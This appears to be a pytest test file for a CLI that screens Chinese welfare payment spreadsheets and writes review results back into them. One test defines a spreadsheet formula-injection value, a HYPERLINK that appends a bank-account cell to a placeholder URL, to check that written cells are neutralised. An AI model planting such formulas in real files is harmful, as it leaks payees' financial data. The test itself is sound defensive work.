"""``doudi screen``: a payment file as offices export it (CSV, XLSX with a title row and a
合计 row) written back with 审核结果 and 暂缓原因, the summary, and bad files refused in
Chinese."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pytest
from typer.testing import CliRunner

from api.cli import app
from api.screen_file import read_payment_list, screen_file, summary_text, write_screened
from api.storage import opened
from models.screening import Decision, Hold, summary
from resolver.errors import InputError
from tests.models.test_case_numbers import _died, _paid, _roster, _run
from tests.models.test_screening import county_run

runner = CliRunner()
MONTH = "2026-10"
HEADERS = ["序号", "救助证号", "户主姓名", "银行账号", "发放月份", "实发金额"]


@pytest.fixture(scope="module")
def county(tmp_path_factory):
    found = county_run(tmp_path_factory.mktemp("screen-file"), people=2000, seed=11)
    import duckdb

    con = duckdb.connect(str(found["db"]), read_only=True)
    rows = con.execute(
        "SELECT case_no, payee_name, bank_account, amount::DOUBLE FROM payments "
        "WHERE pay_month = ? ORDER BY record_id LIMIT 40", [MONTH]).fetchall()  # fmt: skip
    con.close()
    return {**found, "rows": rows}


def _data(county) -> list[list]:
    """The month's lines, the first one's amount tripled (an amount that does not fit)."""
    lines = []
    for number, (case, name, account, amount) in enumerate(county["rows"], start=1):
        amount = amount * 3 if number == 1 else amount
        lines.append([number, case, name, account or "", MONTH, f"{amount:.2f}"])
    return lines


def _screen(county, source, out, *more):
    return runner.invoke(app, ["screen", str(source), "--db", str(county["db"]), "--out",
                               str(out), *more])  # fmt: skip


def test_a_workbook_keeps_its_rows_and_gets_two_columns_on_data_rows_only(county, tmp_path):
    source, out = tmp_path / "2026年10月低保发放表.xlsx", tmp_path / "审核" / "发放表.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "城关镇"
    sheet.append(["某县2026年10月农村低保资金发放花名册"])
    sheet.merge_cells("A1:F1")
    sheet.append(HEADERS)
    data = _data(county)
    for row in data:
        sheet.append(row)
    total = sum(float(row[5]) for row in data)
    sheet.append(["合计", None, None, None, None, f"{total:.2f}"])
    sheet.append(["制表人：张三"])
    book.create_sheet("说明").append(["本表由乡镇民政办填报"])
    book.save(source)
    summary = tmp_path / "summary.json"
    result = _screen(county, source, out, "--summary", str(summary))
    assert result.exit_code == 0, result.output
    assert f"共读取发放记录 {len(data)} 条" in result.output
    assert "暂缓仅为发放前核实提示，不是停发决定" in result.output
    written = openpyxl.load_workbook(out)
    assert written.sheetnames == ["城关镇", "说明"]
    rows = list(written["城关镇"].iter_rows(values_only=True))
    assert len(rows) == len(data) + 4
    assert rows[0][0] == "某县2026年10月农村低保资金发放花名册" and rows[0][6:] == (None, None)
    assert list(rows[1]) == [*HEADERS, "审核结果", "暂缓原因"]
    for row, original in zip(rows[2:-2], data, strict=True):
        assert [str(value) for value in row[:6]] == [str(value) for value in original]
        assert row[6] in ("通过", "暂缓") and (row[7] is None) == (row[6] == "通过")
    assert rows[2][6] == "暂缓" and rows[2][7].startswith("发放金额与类别人数不符：")
    assert "按在保成员类别应发" in rows[2][7] and rows[2][7].endswith("不是停发决定")
    assert rows[-2][0] == "合计" and rows[-2][6:] == (None, None)
    assert rows[-1][0] == "制表人：张三" and rows[-1][6:] == (None, None)
    assert all(cell.data_type == "s" for cell in written["城关镇"]["G"][1:] if cell.value)
    assert {str(merged) for merged in written["城关镇"].merged_cells.ranges} == {"A1:F1"}
    prompts = {str(v.sqref): v.prompt for v in written["城关镇"].data_validations.dataValidation}
    assert prompts == {"G2": "暂缓仅为发放前核实提示，不是停发决定"}
    found = json.loads(summary.read_text(encoding="utf-8"))
    assert found["lines"] == len(data) and found["held"] >= 1
    total = sum(Decimal(row[5]) for row in data)  # the list's money and the held lines', exact
    held = sum(Decimal(original[5]) for row, original in zip(rows[2:-2], data, strict=True)
               if row[6] == "暂缓")  # fmt: skip
    assert (Decimal(found["amount"]), Decimal(found["held_amount"])) == (total, held)
    assert f"金额合计 {total:,} 元" in result.output and f"金额 {held:,} 元" in result.output
    with opened(county["db"]) as storage:  # a read of personal data, logged
        _, (entry, *_) = storage.tokens.access_log(offset=0, limit=1)
    assert (entry["role"], entry["action"]) == ("cli", "screen_payments")
    assert entry["target"].startswith(f"{source.name} {len(data)}行 暂缓{found['held']}行")
    assert found["months"][MONTH]["lines"] == len(data)
    assert found["note"] == "暂缓仅为发放前核实提示，不是停发决定"
    total_row = len(data) + 3  # every row not read as a line is accounted for, and why
    assert [(row["row"], row["reason"]) for row in found["skipped"]] == [
        (1, "表头上方的标题行"),
        (total_row, "合计行"),
        (total_row + 1, "表尾（制表人、审核人、说明等）"),
    ]
    assert (
        f"未作为发放记录读取的行 3 行：「城关镇」第 1 行（表头上方的标题行）；「城关镇」第 {total_row} 行（合计行）"
        in result.output
    )


def test_the_columns_go_after_everything_the_table_shows(county, tmp_path):
    # a header of two rows (备注 merged down them, 发放信息 over 发放月份 and 实发金额) and a
    # note beside a data row: nothing the office wrote is overwritten or hidden in a merge
    source, out = tmp_path / "发放.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["序号", "救助证号", "户主姓名", "银行账号", "发放信息", None, "备注"])
    sheet.append([None, None, None, None, "发放月份", "实发金额"])
    for column in "ABCDG":
        sheet.merge_cells(f"{column}1:{column}2")
    sheet.merge_cells("E1:F1")
    data = [[*row[:5], row[5], f"备注{number}"] for number, row in enumerate(_data(county), 1)]
    for row in data:
        sheet.append(row)
    sheet["I4"] = "已电话核实"
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    before = openpyxl.load_workbook(source).active
    after = openpyxl.load_workbook(out).active
    kept = {cell.coordinate: cell.value for row in before.iter_rows() for cell in row}
    assert {ref: after[ref].value for ref in kept} == kept
    assert (after["J2"].value, after["K2"].value) == ("审核结果", "暂缓原因")
    assert {after[f"J{row}"].value for row in range(3, len(data) + 3)} <= {"通过", "暂缓"}


def test_a_gbk_csv_keeps_its_encoding_delimiter_and_rows(county, tmp_path):
    source, out = tmp_path / "发放.csv", tmp_path / "发放-审核.csv"
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["2026年10月特困低保发放表"])
    writer.writerow(HEADERS)
    data = _data(county)
    writer.writerows(data)
    writer.writerow(["合计", "", "", "", "", "1"])
    source.write_bytes(buffer.getvalue().encode("gb18030"))
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("gb18030")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["2026年10月特困低保发放表"]
    assert rows[1] == [*HEADERS, "审核结果", "暂缓原因"]
    assert [row[:6] for row in rows[2:-1]] == [[str(v) for v in row] for row in data]
    assert rows[2][6] == "暂缓" and all(row[6] in ("通过", "暂缓") for row in rows[2:-1])
    assert rows[-1] == ["合计", "", "", "", "", "1"]


def test_a_totals_sheet_first_is_listed_and_the_other_sheets_screened(county, tmp_path):
    source, out = tmp_path / "发放.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    totals = book.active
    totals.title = "汇总"
    header = ["乡镇", "户数", "人数", "发放金额（元）", "发放月份"]
    totals.append(header)
    totals.append(["城关镇", 40, 80, 12000, MONTH])
    town = book.create_sheet("城关镇")
    for row in [HEADERS, *_data(county)]:
        town.append(row)
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    assert "工作表「汇总」未读取：汇总或统计表" in result.output
    written = openpyxl.load_workbook(out)
    assert [cell.value for cell in written["汇总"][1]] == header
    assert [cell.value for cell in written["城关镇"][1]] == [*HEADERS, "审核结果", "暂缓原因"]
    del book["城关镇"]  # a totals sheet alone: nothing to screen, refused
    book.save(source)
    refused = _screen(county, source, out)
    assert refused.exit_code == 2 and "未读到发放记录表格（汇总或统计表" in refused.output


def test_a_note_every_sheet_of_a_workbook_makes_alike_is_printed_once(county, tmp_path):
    source, out = tmp_path / "发放.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    data = _data(county)
    for number, township in enumerate(("城关镇", "石羊镇")):
        sheet = book.active if number == 0 else book.create_sheet()
        sheet.title = township
        for row in [HEADERS, *data[number::2]]:
            sheet.append(row)
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    assert result.output.count("表中没有记录编号列") == 1


@pytest.mark.parametrize("delimiter", ["\t", ";"])
def test_a_tsv_or_semicolon_csv_under_a_title_keeps_its_delimiter(county, tmp_path, delimiter):
    # the title line holds no delimiter: the writer takes the reader's, not line 1's
    source, out = tmp_path / "发放.csv", tmp_path / "发放-审核.csv"
    data = [[str(value) for value in row] for row in _data(county)]
    lines = ["2026年10月低保发放表", *(delimiter.join(row) for row in [HEADERS, *data])]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    written = out.read_text(encoding="utf-8").removesuffix("\n").split("\n")
    header = delimiter.join([*HEADERS, "审核结果", "暂缓原因"])
    assert written[:2] == [lines[0], header]
    assert all(line.startswith(original + delimiter)
               for line, original in zip(written[2:], lines[2:], strict=True))  # fmt: skip


def test_a_note_beside_a_csv_line_stays_in_its_field(county, tmp_path):
    source, out = tmp_path / "发放.csv", tmp_path / "发放-审核.csv"
    data = [[str(value) for value in row] for row in _data(county)]
    data[1] += ["", "签字：李四"]
    data[2][3] = "6.22848E+18"  # an account a spreadsheet rounded: said, and the line checked
    with source.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADERS, *data])
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert "银行账号 银行账号被表格软件损坏 1 条" in result.output
    assert rows[0] == [*HEADERS, "", "", "审核结果", "暂缓原因"]
    assert rows[2][:8] == data[1] and rows[2][8] in ("通过", "暂缓")
    assert all(row[:6] == line[:6] and row[8] in ("通过", "暂缓")
               for row, line in zip(rows[1:], data, strict=True))  # fmt: skip


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_file_screened_before_has_its_two_columns_overwritten(county, tmp_path, suffix):
    source, out = tmp_path / f"发放{suffix}", tmp_path / f"再审核{suffix}"
    header = [*HEADERS, "审核结果", "暂缓原因"]
    stale = [[*map(str, row), "暂缓", "旧原因"] for row in _data(county)]
    if suffix == ".csv":
        with source.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([header, *stale])
    else:
        book = openpyxl.Workbook()
        for row in [header, *stale]:
            book.active.append(row)
        book.save(source)
    assert _screen(county, source, out).exit_code == 0
    if suffix == ".csv":
        with out.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
    else:
        rows = [[cell or "" for cell in row]
                for row in openpyxl.load_workbook(out).active.iter_rows(values_only=True)]  # fmt: skip
    assert rows[0] == header and all(len(row) == len(header) for row in rows)
    assert rows[1][6] == "暂缓" and rows[1][7].startswith("发放金额与类别人数不符")
    assert all((row[7] == "") == (row[6] == "通过") and "旧原因" not in row[7] for row in rows[1:])
    assert any(row[6] == "通过" for row in rows[1:])  # a pass clears the stale reason


def test_a_roster_a_folder_or_another_format_is_refused_in_chinese(county, tmp_path):
    roster = tmp_path / "户籍.csv"
    roster.write_text("姓名,身份证号码,户号,与户主关系\n张三,532326199001011235,H1,户主\n",
                      encoding="utf-8")  # fmt: skip
    result = _screen(county, roster, tmp_path / "out.csv")
    assert result.exit_code == 2 and "未读到发放记录表格（文件是户籍人口名册）" in result.output
    source = tmp_path / "发放.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADERS, *_data(county)])
    for out, said in ((tmp_path, "写出路径是文件夹"), (tmp_path / "x.xlsx", "请把扩展名改为 .csv")):
        result = _screen(county, source, out)
        assert result.exit_code == 2 and said in result.output and "Traceback" not in result.output
    assert not (tmp_path / "x.xlsx").exists()


def test_a_bad_file_is_refused_in_chinese_naming_where(county, tmp_path):
    source = tmp_path / "发放.csv"
    source.write_text("救助证号,领款人姓名,银行账号\nDB1,张三,6221\n", encoding="utf-8")
    result = _screen(county, source, tmp_path / "out.csv")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "发放.csv" in result.output and "缺少必填列" in result.output
    assert "发放月份" in result.output and not (tmp_path / "out.csv").exists()
    with pytest.raises(InputError, match="第 2 行"):
        book = openpyxl.Workbook()
        book.active.append(["记录编号", "救助证号", "发放月份", "发放金额（元）"])
        book.active.append([None, "DB1", MONTH, 100])
        book.save(tmp_path / "x.xlsx")
        read_payment_list(tmp_path / "x.xlsx")
    missing = _screen(county, tmp_path / "none.csv", tmp_path / "out.csv")
    assert missing.exit_code == 2 and "没有文件" in missing.output


def test_a_workbook_with_a_value_far_away_is_refused_in_chinese(county, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["救助证号", "发放月份", "发放金额"])
    book.active["XFD1048576"] = "x"
    book.save(tmp_path / "发放.xlsx")
    result = _screen(county, tmp_path / "发放.xlsx", tmp_path / "out.xlsx")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "删除多余的行和列后另存再试" in result.output and not (tmp_path / "out.xlsx").exists()


def test_an_output_that_would_overwrite_the_list_or_the_other_output_is_refused(county, tmp_path):
    source = tmp_path / "发放表.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADERS, *_data(county)])
    before = source.read_bytes()
    same = _screen(county, source, source)
    assert same.exit_code == 2 and "--out 与发放表是同一个文件" in same.output
    out = tmp_path / "审核.csv"
    clash = _screen(county, source, out, "--summary", str(out))
    assert clash.exit_code == 2 and "--summary 与 --out 是同一个文件" in clash.output
    assert source.read_bytes() == before and not out.exists()


def _rows(path, sheet=None) -> list[list[str]]:
    """A written file's rows as text (an empty cell as ""), trailing empty cells kept."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as file:
            return list(csv.reader(file))
    book = openpyxl.load_workbook(path)
    return [["" if cell is None else str(cell) for cell in row]
            for row in book[sheet or book.sheetnames[0]].iter_rows(values_only=True)]  # fmt: skip


def _write(path, rows, merges=()):
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(rows)
        return
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for cells in merges:
        book.active.merge_cells(cells)
    book.save(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_tables_side_by_side_are_each_screened_and_get_a_pair_of_columns(county, tmp_path, suffix):
    # 低保 on the left, an empty column, 特困 on the right (a title merged across both in
    # the workbook): every line is screened, each gets its own table's pair of columns after
    # the right table, left table's pair first, and no cell of either table is overwritten
    data = [[str(value) for value in row] for row in _data(county)]
    left, right = data[1:6], [data[0], *data[6:9]]  # the held line (amount tripled) right
    plain, out = tmp_path / f"单表{suffix}", tmp_path / f"单表审核{suffix}"
    _write(plain, [HEADERS, *left, *right])
    assert _screen(county, plain, out).exit_code == 0
    alone = [row[6:8] for row in _rows(out)[1:]]  # each line's cells when read in one table
    source, out = tmp_path / f"2026年10月发放表{suffix}", tmp_path / f"审核{suffix}"
    width = 2 * len(HEADERS) + 1
    lines = [[*(left[index] if index < len(left) else [""] * len(HEADERS)), "",
              *(right[index] if index < len(right) else [""] * len(HEADERS))]
             for index in range(max(len(left), len(right)))]  # fmt: skip
    title = ["某县2026年10月低保特困资金发放表", *[""] * (width - 1)]
    _write(source, [title, [*HEADERS, "", *HEADERS], *lines], [f"A1:{chr(64 + width)}1"])
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    assert f"共读取发放记录 {len(data[:9])} 条" in result.output
    rows = _rows(out)
    assert rows[1] == [*HEADERS, "", *HEADERS, "审核结果", "暂缓原因", "审核结果", "暂缓原因"]
    for row, original in zip(rows[2:], lines, strict=True):
        assert row[:width] == original
    assert [row[width : width + 2] for row in rows[2 : 2 + len(left)]] == alone[: len(left)]
    assert [row[width + 2 :] for row in rows[2 : 2 + len(right)]] == alone[len(left) :]
    assert rows[2][width + 2] == "暂缓" and rows[2][width + 3].startswith("发放金额与类别人数不符")
    assert not any(cell for row in rows[2 + len(right) :] for cell in row[width + 2 :])
    if suffix == ".xlsx":
        prompts = [
            v.prompt for v in openpyxl.load_workbook(out).active.data_validations.dataValidation
        ]
        assert sorted(prompts)[-1].endswith("这两列是左起第 2 个表格的审核结果")
    again = tmp_path / f"再审核{suffix}"  # screened again: the two pairs overwritten in place
    assert _screen(county, out, again).exit_code == 0
    assert _rows(again) == rows


def test_a_sheet_without_a_header_continuing_the_first_is_screened_in_its_columns(county, tmp_path):
    # an export that split the list over two sheets, the header on the first only: the
    # second sheet's lines are screened too, their cells in the first sheet's columns
    data = _data(county)
    source, out = tmp_path / "2026年10月发放表.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    for row in [HEADERS, *data[1:20]]:
        book.active.append(row)
    second = book.create_sheet("Sheet2")
    for row in [data[0], *data[20:]]:
        second.append(row)
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    assert f"共读取发放记录 {len(data)} 条" in result.output and "未读取" not in result.output
    first, second = _rows(out, "Sheet"), _rows(out, "Sheet2")
    assert first[0] == [*HEADERS, "审核结果", "暂缓原因"]
    assert len(second) == len(data) - 19 and all(row[6] in ("通过", "暂缓") for row in second)
    assert second[0][6] == "暂缓" and second[0][7].startswith("发放金额与类别人数不符")
    again = tmp_path / "再审核.xlsx"
    assert _screen(county, out, again).exit_code == 0
    assert _rows(again, "Sheet2") == second


def _paid_three_months(county) -> list[tuple]:
    """Two cases paid in 2026-08, 2026-09 and 2026-10: case, payee, the three amounts."""
    import duckdb

    with duckdb.connect(str(county["db"]), read_only=True) as con:
        return con.execute(
            "SELECT case_no, min(payee_name), list(amount::DOUBLE ORDER BY pay_month) FROM payments "
            "WHERE pay_month IN ('2026-08', '2026-09', ?) GROUP BY case_no HAVING count(*) = 3 "
            "ORDER BY case_no LIMIT 2", [MONTH]).fetchall()  # fmt: skip


def test_a_ledger_of_a_column_per_month_holds_a_row_for_any_month_held(county, tmp_path):
    paid = _paid_three_months(county)
    source, out = tmp_path / "2026年低保金发放台账.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["序号", "救助证号", "户主姓名", "8月", "9月", "10月", "合计"])
    (held, name, (august, *after)), (passed, other, amounts) = paid
    book.active.append([1, held, name, august * 3, *after, august * 3 + sum(after)])
    book.active.append([2, passed, other, *amounts, sum(amounts)])
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0][7:] == ("审核结果", "暂缓原因")
    # the row's 8月 held, its 9月 and 10月 passing: held, naming the month held (the note once)
    assert rows[1][7] == "暂缓" and rows[1][8].startswith("2026-08：发放金额与类别人数不符：")
    assert MONTH not in rows[1][8] and rows[1][8].count("不是停发决定") == 1
    assert rows[2][7:] == ("通过", None)


def test_a_member_row_of_a_ledger_of_a_column_per_month_takes_each_months_own_result(
    county, tmp_path
):
    # household 1 paid triple in 8月, household 2 in 10月; each month's amount and the case
    # merged down over the household's row and its member's
    source, out = tmp_path / "2026年低保金发放台账.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["序号", "救助证号", "户主姓名", "8月", "9月", "10月"])
    (first, name, (august, *rest)), (second, other, (*before, october)) = _paid_three_months(county)
    for number, case, payee, amounts in ((1, first, name, [august * 3, *rest]),
                                         (2, second, other, [*before, october * 3])):  # fmt: skip
        top = sheet.max_row + 1
        sheet.append([number, case, payee, *amounts])
        sheet.append([None, None, "成员甲", None, None, None])
        for column in "BDEF":
            sheet.merge_cells(f"{column}{top}:{column}{top + 1}")
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    assert "同户其余 2 行不单独核对" in result.output
    rows = [row[6:] for row in openpyxl.load_workbook(out).active.iter_rows(values_only=True)]
    assert rows[1][0] == "暂缓" and rows[1][1].startswith("2026-08：") and MONTH not in rows[1][1]
    assert rows[3][0] == "暂缓" and rows[3][1].startswith(f"{MONTH}：")
    assert "2026-08" not in rows[3][1]
    assert rows[2] == rows[1] and rows[4] == rows[3]  # each member row as its household's
    # a reviewer clears household 1's 8月 (line 0: the lines go row by row, month by month)
    import duckdb

    with duckdb.connect(str(county["db"]), read_only=True) as con:
        screening = screen_file(con, source)
    write_screened(screening, out, {0: ("通过", "核实后放行：已核实")})
    rows = [row[6:] for row in openpyxl.load_workbook(out).active.iter_rows(values_only=True)]
    assert rows[1] == rows[2] == ("通过", "2026-08：核实后放行：已核实")
    assert rows[3][0] == rows[4][0] == "暂缓"


@pytest.mark.parametrize("before_paid", [False, True])
def test_a_households_amount_merged_over_its_members_rows_is_judged_once(
    county, tmp_path, before_paid
):
    # before_paid: the amount is 应发's, merged, 实发 beside it still blank
    source, out = tmp_path / "2026年10月低保金发放花名册.xlsx", tmp_path / "审核.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([*HEADERS[:5], "应发金额", "实发金额"] if before_paid else HEADERS)
    (held, name, account, amount), (passed, other, other_account, other_amount) = county["rows"][:2]
    for case, payee, bank, paid in ((held, name, account, amount * 3),
                                    (passed, other, other_account, other_amount)):  # fmt: skip
        top = sheet.max_row + 1
        sheet.append([None, case, payee, bank, MONTH, paid])
        sheet.append([None, None, "成员甲", None, MONTH, None])
        sheet.append([None, None, "成员乙", None, MONTH, None])
        for column in "BDF":  # the case, its account and its amount over its three rows
            sheet.merge_cells(f"{column}{top}:{column}{top + 2}")
    book.save(source)
    result = _screen(county, source, out)
    assert result.exit_code == 0, result.output
    assert "审核结果随合并区域第一行" in result.output and "无法核对" not in result.output
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    results = len(rows[0]) - 2
    assert [row[results] for row in rows[1:]] == ["暂缓"] * 3 + ["通过"] * 3
    assert len({row[results + 1] for row in rows[1:4]}) == 1
    assert f"本表发放 {amount * 3:.2f} 元" in rows[1][results + 1]
    # a reviewer clears the household's line: its members' rows are cleared with it
    import duckdb

    with duckdb.connect(str(county["db"]), read_only=True) as con:
        screening = screen_file(con, source)
    write_screened(screening, out, {0: ("通过", "核实后放行：已核实")})
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert [row[results:] for row in rows[1:4]] == [("通过", "核实后放行：已核实")] * 3


def test_a_list_before_the_bank_is_paid_is_checked_on_its_amounts_owed(county, tmp_path):
    header = [*HEADERS[:5], "应发金额", "实发金额"]
    owed = [[*row, ""] for row in _data(county)]  # the first line's 应发 tripled, 实发 blank
    owed[1][6] = owed[1][5]  # a line already paid
    paid = [[*row[:5], "", row[5]] for row in _data(county)]  # the same amounts, as 实发
    outputs, results = [], []
    for name, data in (("应发", owed), ("实发", paid)):
        source, out = tmp_path / f"{name}.csv", tmp_path / f"{name}审核.csv"
        with source.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows([header, *data])
        result = _screen(county, source, out)
        assert result.exit_code == 0, result.output
        outputs.append(result.output)
        with out.open(encoding="utf-8", newline="") as handle:
            results.append([row[7:] for row in csv.reader(handle)][1:])
    assert (f"列「实发金额」有 {len(owed) - 1} 个空格（发放前尚未填写实发金额）：按同一行的应发金额核对"
            in outputs[0])  # fmt: skip
    assert results[0] == results[1]  # judged as if 应发 were paid
    assert results[0][0][0] == "暂缓" and results[0][0][1].startswith("发放金额与类别人数不符")


def test_a_screening_that_cannot_be_written_is_logged_and_names_the_file(county, tmp_path):
    """The list was read against the registries whether or not its copy could be written: the
    read is logged before the copy is written."""
    source, out = tmp_path / "发放表.csv", tmp_path / "审核.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADERS, *_data(county)])
    out.mkdir()
    result = _screen(county, source, out)
    assert result.exit_code == 2 and "写出路径是文件夹" in result.output, result.output
    with opened(county["db"]) as storage:
        _, (entry, *_) = storage.tokens.access_log(offset=0, limit=1)
    assert (entry["role"], entry["action"]) == ("cli", "screen_payments")
    assert entry["target"].startswith(f"{source.name} {len(county['rows'])}行")


HOSTILE = '=HYPERLINK("http://x.invalid/?"&D2,"点我")'


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_cell_doudi_writes_never_starts_a_formula_and_the_files_own_stay(
    county, tmp_path, suffix
):
    """A reason Doudi writes that starts like a formula (a reviewer's clearing quoting a
    payee named ``=HYPERLINK(…)``) is an apostrophe-led text in a CSV and a quote-prefixed
    text cell in a workbook; the list's own cells are written back as they were."""
    import duckdb

    source, out = tmp_path / f"发放表{suffix}", tmp_path / "审核" / f"发放表{suffix}"
    data = _data(county)[:3]
    data[0][2] = HOSTILE
    _write(source, [HEADERS, *data])
    with duckdb.connect(str(county["db"]), read_only=True) as con:
        screening = screen_file(con, source)
    write_screened(screening, out, {0: ("通过", HOSTILE)})
    rows = _rows(out)
    assert rows[1][2] == HOSTILE  # the list's own cell
    if suffix == ".csv":
        assert rows[1][6:] == ["通过", f"'{HOSTILE}"]
        return
    sheet = openpyxl.load_workbook(out).active
    assert (sheet["H2"].value, sheet["H2"].data_type, sheet["H2"].quotePrefix) == (
        HOSTILE,
        "s",
        True,
    )
    assert not sheet["G2"].quotePrefix and not sheet["G3"].quotePrefix


def test_a_lists_lines_carry_their_program_and_fund_category_as_written(tmp_path):
    # what tells a 取暖费 line from the case's 低保金 (models.screening: no amount, no payment)
    path = tmp_path / "发放表.csv"
    path.write_text("救助证号,发放月份,发放金额,救助类型,资金类别\n"
                    "DB1,2026-10,500,城市低保,低保金\nDB1,2026-10,300,城市低保,取暖费\n",
                    encoding="utf-8")  # fmt: skip
    lines = read_payment_list(path).lines
    assert lines["program_text"].to_pylist() == ["城市低保", "城市低保"]
    assert lines["fund"].to_pylist() == ["低保金", "取暖费"]


def test_a_list_screened_before_the_bank_joins_as_the_run_does_and_keeps_its_text(tmp_path):
    # until 2026-12-07 the dead member's line written 121 was held 无法核对 (救助证号 121 不在
    # 已发布运行的救助名册中), not for the death; a line of a case written otherwise whose
    # payee is no member of it stays held so
    import duckdb

    roster = _roster(("000121", 1), ("000122", 2), ("000123", 3))
    paid = "".join(_paid(f"00012{n}", n, range(1, 7)) for n in (1, 2, 3))
    _, db = _run(tmp_path, roster, paid, _died(1))
    source, out = tmp_path / "2024年7月发放表.csv", tmp_path / "审核.csv"
    source.write_text("救助证号,户主姓名,发放月份,实发金额\n121,人1,2024-07,412.00\n"
                      "122,人2,2024-07,412.00\n0123,人9,2024-07,412.00\n", encoding="utf-8")  # fmt: skip
    with duckdb.connect(db, read_only=True) as con:
        screening = screen_file(con, source)
    kinds = [[hold.kind for hold in decision.holds] for decision in screening.decisions]
    assert kinds == [["death"], [], ["unchecked"]]
    assert (
        screening.decisions[0]
        .holds[0]
        .text.endswith(
            "（救助证号 121 与名册中唯一一个案件 000121 去掉前导 0、连字符等后相同、领款人也相符，按该案件核对）"
        )
    )
    assert (
        "：2 条发放记录与名册中唯一一个案件去掉前导 0、连字符等后相同、领款人也相符，按该案件读取（如 121 即名册的 000121）"
        in "".join(screening.summary["notes"])
    )
    write_screened(screening, out)
    with out.open(encoding="utf-8", newline="") as file:
        assert [row[0] for row in csv.reader(file)][1:] == ["121", "122", "0123"]


def test_a_split_off_household_s_new_number_stays_paid_in_two_cases(tmp_path):
    # a review of 2026-12-07: 人3, covered on live DB-2-15, has her own new DB-21-5 (not in
    # the run); the list pays both. DB-21-5 was read as DB-2-15 (both DB215): the true hold
    # (人3 paid in two cases) was lost and DB-2-15's right line held for its amount. Since
    # 2026-12-07 DB-2-15's line, paying 人3 in full beside her new case, is held for it too
    import duckdb

    from tests.models.test_case_numbers import ROSTER_HEAD, _id

    roster = ROSTER_HEAD + "".join(
        f"A{n},{case},人{n},{_id(n)},{relation},低保,B,是,{size},2022-01-01,\n"
        for n, case, relation, size in ((1, "DB-2-15", "本人", 2), (3, "DB-2-15", "女儿", 2),
                                        (2, "DB-3-3", "本人", 1), (9, "DB-9-9", "本人", 1)))  # fmt: skip
    paid = "".join(f"F1{m},DB-2-15,人1,{_id(1)},2024-{m:02d},824.00\n" for m in range(1, 7))
    _, db = _run(tmp_path, roster, paid + _paid("DB-3-3", 2, range(1, 7), with_id=True), _died(9))
    source = tmp_path / "2024年7月发放表.csv"
    source.write_text("救助证号,领款人姓名,领款人身份证号码,发放月份,实发金额\n"
                      f"DB-2-15,人1,{_id(1)},2024-07,824.00\nDB-3-3,人2,{_id(2)},2024-07,412.00\n"
                      f"DB-21-5,人3,{_id(3)},2024-07,412.00\n", encoding="utf-8")  # fmt: skip
    with duckdb.connect(db, read_only=True) as con:
        screening = screen_file(con, source)
    assert [[hold.kind for hold in decision.holds] for decision in screening.decisions] == [
        ["twice"], [], ["twice"]]  # fmt: skip


def test_a_list_most_of_whose_case_numbers_the_run_does_not_hold_is_said_to_be_untrustworthy():
    # a blind tester's list after a system migration re-issued every 救助证号: 252 of 255
    # lines held as paid twice, each against the family's own old case, and the summary said
    # only that 3 lines (those passed) named cases not on the roster (until 2026-12-07 (night))
    twice = (Hold("twice", "同月也是案件 DB1 的在保对象"),)
    migrated = [Decision(line, twice if line < 8 else (), unlisted=True) for line in range(10)]
    said = summary_text(summary(migrated, ["2024-07"] * 10, [300.0] * 10))
    assert "注意：10 条中有 10 条的救助证号不在已发布运行的救助名册中" in said
    assert "请先用本月数据 doudi update 再审核" in said
    some_new = [replace(decision, unlisted=decision.line < 5) for decision in migrated]
    assert "不在已发布运行的救助名册中。" not in summary_text(
        summary(some_new, ["2024-07"] * 10, [300.0] * 10)
    )
